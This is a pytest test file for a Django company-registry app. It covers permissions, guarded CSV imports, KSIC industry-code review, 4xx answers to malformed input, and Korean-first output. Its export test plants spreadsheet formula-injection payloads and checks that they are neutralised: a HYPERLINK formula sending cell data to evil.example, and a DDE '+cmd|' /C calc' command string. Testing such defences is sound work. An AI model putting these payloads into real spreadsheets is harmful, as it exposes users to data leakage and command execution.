"""Registry pages and API: permissions, bad input answered with a 4xx, Korean first."""

import ast
import io
import json
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from typer.testing import CliRunner

import techvalley
from techvalley.core import spine
from techvalley.core.models import ApiToken
from techvalley.core.scoping import viewer_for
from techvalley.registry import permissions, services
from techvalley.registry.models import Company
from tests.factories import CompanyFactory

HEADER = "순번,회사명,공장대표주소,업종명,전화번호\n"


def upload(rows, name="r.csv"):
    return SimpleUploadedFile(name, (HEADER + "".join(r + "\n" for r in rows)).encode("cp949"))


def rows(n):
    return [f"{i},웹기업{i},부산광역시 사하구 다산로 {i} (다대동),도금업," for i in range(n)]


def client_for(user):
    c = Client()
    if user is not None:
        c.force_login(user)
    return c


def token_client(user):
    key = ApiToken.objects.create(user=user, name="t").key
    return Client(HTTP_AUTHORIZATION=f"Bearer {key}")


# --- boundaries and permissions -------------------------------------------------------------------

DOMAIN_APPS = ("registry", "projects", "green", "facilities", "collaboration", "tenancy", "surveys", "portal")


def test_core_imports_no_domain_app():
    core = Path(techvalley.__file__).parent / "core"
    offenders = []
    for path in core.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            names = [a.name for a in node.names] if isinstance(node, ast.Import) else []
            if isinstance(node, ast.ImportFrom) and node.module:
                names = [node.module]
            offenders += [(path.name, n) for n in names if n.split(".")[:2] in [["techvalley", a] for a in DOMAIN_APPS]]
    assert offenders == []


@pytest.mark.django_db
def test_only_who_may_edit_sees_the_edit_button(world):
    a = world["a"]
    url = reverse("registry:company_detail", args=[a.pk])
    edit = reverse("registry:company_edit", args=[a.pk])
    for who, sees in (("member_a", False), ("manager_a", True), ("manager_b", False), ("officer", True), (None, False)):
        user = world["users"][who] if who else None
        html = client_for(user).get(url).content.decode()
        assert (edit in html) is sees, who
        if user is not None:
            expected = 200 if sees else 403
            assert client_for(user).get(edit).status_code == expected, who
            assert permissions.can_edit_profile(viewer_for(user), a) is sees


@pytest.mark.django_db
def test_officer_menu_entries_only_for_officers(world):
    for who, sees in (("member_a", False), ("manager_a", False), ("university", False), ("officer", True)):
        keys = {e.key for e in spine.platform.menu(viewer_for(world["users"][who]), "officer")}
        assert ({"review", "imports"} <= keys) is sees, who
    assert not {"review", "imports"} & {e.key for e in spine.platform.menu(viewer_for(None), "officer")}


@pytest.mark.django_db
def test_search_finds_published_fields_and_business_numbers_only_for_the_entitled(world):
    a = world["a"]
    Company.objects.filter(pk=a.pk).update(brn="1208147521")
    cx = world["cx"]
    anyone = spine.platform.run_search(viewer_for(None), cx, "에이금속")
    assert [h.title for _p, hits in anyone for h in hits] == [a.name]
    assert any(h.title == a.name for _p, hits in spine.platform.run_search(viewer_for(None), cx, "25922") for h in hits)
    assert spine.platform.run_search(viewer_for(world["users"]["manager_b"]), cx, "120-81-47521") == []
    officer_hits = spine.platform.run_search(viewer_for(world["users"]["officer"]), cx, "120-81-47521")
    assert [h.title for _p, hits in officer_hits for h in hits] == [a.name]


@pytest.mark.django_db
def test_panels_state_both_high_tech_definitions_with_source_and_date(world, tmp_path):
    p = tmp_path / "busan_factory_registry_2025-12-31.csv"
    p.write_bytes((HEADER + "1,반도체,부산광역시 사하구 다산로 1 (다대동),반도체 제조업,\n").encode("cp949"))
    services.import_registry(p, world["cx"], snapshot=False)
    panels = dict(
        (panel.key, figs) for panel, figs in spine.platform.panels_for(viewer_for(None), world["cx"], "complex")
    )
    figures = {f.key: f for f in panels["registry"]}
    assert {"companies", "high_tech_share", "strict_high_tech_share"} <= set(figures)
    assert "2025-12-31" in str(figures["high_tech_share"].source) and figures["high_tech_share"].as_of is not None
    officer = dict(spine.platform.panels_for(viewer_for(world["users"]["officer"]), world["cx"], "officer"))
    assert any(f.key == "review_queue" for figs in officer.values() for f in figs)
    assert not any(
        p.key == "registry_work" for p, _ in spine.platform.panels_for(viewer_for(None), world["cx"], "officer")
    )
    html = Client().get(reverse("registry:structure")).content.decode()
    assert "좁은 정의" in html and "넓은 정의" in html and "부산광역시 공장등록 현황 2025-12-31" in html


# --- imports on the web and in the API ------------------------------------------------------------


@pytest.mark.django_db
def test_web_import_shows_the_removals_and_needs_a_tick(world):
    c = client_for(world["users"]["officer"])
    url = reverse("registry:import_list")
    c.post(url, {"file": upload(rows(30))})
    listed = world["cx"].companies.filter(in_registry=True, source="busan")
    assert listed.count() == 30
    preview = c.post(url, {"file": upload(rows(3)), "dry_run": "on"}).content.decode()
    assert 'id="gone-list"' in preview and "웹기업29" in preview and 'name="allow_removals"' in preview
    assert "등록에서 빠질 기업" in preview or "등록 제외" in preview
    stopped = c.post(url, {"file": upload(rows(3))}).content.decode()
    assert 'id="removals-warning"' in stopped
    assert listed.count() == 30
    c.post(url, {"file": upload(rows(3)), "partial": "on"})
    assert listed.count() == 30
    c.post(url, {"file": upload(rows(3)), "allow_removals": "on"})
    assert listed.count() == 3


@pytest.mark.django_db
def test_web_import_summary_is_in_korean(world):
    c = client_for(world["users"]["officer"])
    html = c.post(reverse("registry:import_list"), {"file": upload(rows(2)), "dry_run": "on"}).content.decode()
    assert "새 기업" in html and "부산광역시 공장등록 현황 (CSV)" in html
    assert ">created<" not in html and "busan-csv" not in html


@pytest.mark.django_db
def test_web_import_refuses_an_oversized_upload_with_a_message(world, settings):
    settings.TECHVALLEY_REGISTRY_MAX_UPLOAD_BYTES = 100
    r = client_for(world["users"]["officer"]).post(reverse("registry:import_list"), {"file": upload(rows(10))})
    assert r.status_code == 200 and "파일이 너무 큽니다" in r.content.decode()
    assert Company.objects.filter(name__startswith="웹기업").count() == 0


@pytest.mark.django_db
def test_api_import_has_partial_and_confirmation(world):
    c = token_client(world["users"]["officer"])
    assert c.post("/api/registry/imports", {"file": upload(rows(30))}).status_code == 200
    r = c.post("/api/registry/imports", {"file": upload(rows(2))})
    assert r.status_code == 409 and r.json()["needs_confirmation"] and len(r.json()["gone"]) == 28
    r = c.post("/api/registry/imports?partial=true", {"file": upload(rows(2))})
    assert r.status_code == 200 and r.json()["counts"]["missing"] == 0
    r = c.post("/api/registry/imports?allow_removals=true", {"file": upload(rows(2))})
    assert r.status_code == 200 and r.json()["counts"]["missing"] == 28
    assert token_client(world["users"]["manager_a"]).post("/api/registry/imports", {}).status_code == 403
    assert c.post("/api/registry/imports", {}).status_code == 400


# --- KSIC review ----------------------------------------------------------------------------------


@pytest.mark.django_db
def test_review_queue_pre_fills_nothing_and_lists_candidates_with_names_and_levels(world):
    for name in ("기타육지동물고기가공및저장처리업", "육류 가공업"):
        CompanyFactory(complex=world["cx"], industry_name=name, ksic_code="", ksic_status="review")
    html = client_for(world["users"]["officer"]).get(reverse("registry:review_queue")).content.decode()
    assert 'name="code" size="6" required value=""' in html and 'value="10219"' not in html.split("required")[1]
    assert "10219" in html and "기타 수산동물 가공 및 저장 처리업" in html and "세세분류" in html
    assert "1012" in html and "육류 가공 및 저장 처리업" in html
    assert "점수" in html and "92" in html


@pytest.mark.django_db
def test_ksic_api_rejects_unknown_revisions_and_control_characters(world):
    c = Client()
    assert c.get("/api/ksic/codes/25", {"revision": 12}).status_code == 422
    assert c.get("/api/ksic/codes/25", {"revision": 10}).json()["code"] == "25"
    assert c.get("/api/ksic/resolve", {"name": "도금\x00업"}).status_code in (400, 422)
    data = c.get("/api/ksic/resolve", {"name": "육류 가공업"}).json()[0]
    assert data["status"] == "review" and data["suggestion"] != "10892"
    assert {"code", "name", "level", "score"} <= set(data["candidates"][0])


# --- bad input: a 4xx, never a 500 ----------------------------------------------------------------


@pytest.mark.django_db
def test_profile_patch_refuses_nulls_and_non_objects(world):
    a = world["a"]
    c = token_client(world["users"]["manager_a"])
    url = f"/api/registry/companies/{a.pk}/profile"
    for body in (
        {"representative": None},
        {"main_products": None},
        {"certifications": None},
        {"rd_centre": None},
        {"smart_factory_level": None},
        {"smart_factory_level": "galactic"},
        {"certifications": ["nobel"]},
        {"employees": -1},
        [None, None],
    ):
        r = c.patch(url, json.dumps(body), content_type="application/json")
        assert r.status_code == 422, (body, r.status_code, r.content[:200])
    r = c.patch(url, json.dumps({"representative": "홍\x00길동"}), content_type="application/json")
    assert 400 <= r.status_code < 500
    r = c.patch(url, json.dumps({"employees": None, "rd_centre": True}), content_type="application/json")
    assert r.status_code == 200 and r.json()["rd_centre"] is True and r.json()["employees"] is None
    schema = Client().get("/api/openapi.json").json()["components"]["schemas"]["ProfileIn"]["properties"]
    for name in ("rd_centre", "smart_factory_level", "representative", "certifications"):
        assert "anyOf" not in schema[name] and schema[name].get("type") != "null", name
    assert "anyOf" in schema["employees"]  # may be null: unknown


@pytest.mark.django_db
def test_huge_page_numbers_and_nul_bytes_are_4xx(world):
    officer = token_client(world["users"]["officer"])
    huge = "4611686018427387905"
    assert Client().get("/api/registry/companies", {"page": huge}).status_code == 422
    assert officer.get("/api/registry/review", {"page": huge}).status_code == 422
    page = client_for(world["users"]["officer"]).get(reverse("registry:review_queue"), {"page": huge})
    assert page.status_code == 400
    assert Client().get(reverse("registry:company_list"), {"page": huge}).status_code == 400
    assert 400 <= Client().get("/api/registry/companies", {"q": "a\x00"}).status_code < 500
    assert Client().get(reverse("registry:company_list"), {"q": "a\x00"}).status_code == 400


# --- exports --------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_exports_neutralise_formulas_and_speak_korean(world, tmp_path):
    from openpyxl import load_workbook

    from techvalley.cli import app

    evil = '=HYPERLINK("http://evil.example/"&A2,"click me")'
    CompanyFactory(complex=world["cx"], name=evil, industry_name="+cmd|' /C calc'!A0")
    r = Client().get(reverse("registry:company_export"))
    ws = load_workbook(io.BytesIO(r.content)).active
    cells = [c.value for row in ws.iter_rows(min_row=2) for c in row]
    assert not any(isinstance(v, str) and v.startswith(("=", "+", "-", "@")) for v in cells)
    assert "'" + evil in cells
    header = [c.value for c in ws[1]]
    row = dict(zip(header, [c.value for c in ws[2]], strict=True))
    assert row["분류 상태 / status"] == "분류 확정" and row["기술수준 / technology level"] == "중저위기술"
    assert row["KSIC 차수 / revision"] == "제11차" and row["등록 여부 / in registry"] == "예"
    runner = CliRunner()
    target = tmp_path / "out.csv"
    assert runner.invoke(app, ["registry", "export", "-o", str(target)]).exit_code == 0
    text = target.read_text(encoding="utf-8-sig")
    assert "'" + evil.replace('"', '""') in text and "\n=" not in text and ",=" not in text
    bad = runner.invoke(app, ["registry", "export", "-o", str(tmp_path / "x.json")])
    assert bad.exit_code == 2 and ".xlsx" in bad.output and not (tmp_path / "x.json").exists()


@pytest.mark.django_db(transaction=True)
def test_cli_import_stops_on_many_removals_and_explains(cx, tmp_path):
    from techvalley.cli import app

    runner = CliRunner()
    full = tmp_path / "full.csv"
    full.write_bytes((HEADER + "".join(r + "\n" for r in rows(30))).encode("cp949"))
    part = tmp_path / "part.csv"
    part.write_bytes((HEADER + "".join(r + "\n" for r in rows(2))).encode("cp949"))
    header_only = tmp_path / "header.csv"
    header_only.write_bytes(HEADER.encode("cp949"))
    assert runner.invoke(app, ["registry", "import", str(full)]).exit_code == 0
    r = runner.invoke(app, ["registry", "import", str(part)])
    assert r.exit_code == 1 and "--allow-removals" in r.output and "웹기업29" in r.output
    assert Company.objects.filter(in_registry=True).count() == 30
    r = runner.invoke(app, ["registry", "import", str(header_only)])
    assert r.exit_code == 2 and "데이터 행이 없습니다" in r.output
    r = runner.invoke(app, ["registry", "import", str(part), "--allow-removals", "--json"])
    assert r.exit_code == 0 and json.loads(r.stdout)["missing"] == 28


# --- Korean first ---------------------------------------------------------------------------------


@pytest.mark.django_db
def test_history_and_directory_speak_korean_not_field_names(world, tmp_path):
    a = world["a"]
    services.set_industry(Company.objects.get(pk=a.pk), "26110", reason="현장 확인")
    html = client_for(world["users"]["officer"]).get(reverse("registry:company_detail", args=[a.pk])).content
    html = html.decode()
    history = html.split("History of changes")[-1] if "History of changes" in html else html.split("변경 이력")[-1]
    for raw in ("ksic_code", "tech_intensity", "organisation_id", "ksic_status", "medium_low", "resolved"):
        assert raw not in history, raw
    assert "기술수준" in history and "첨단기술" in history
    directory = Client().get(reverse("registry:company_list")).content.decode()
    assert "<th>기술수준</th>" in directory and "원단위" not in directory
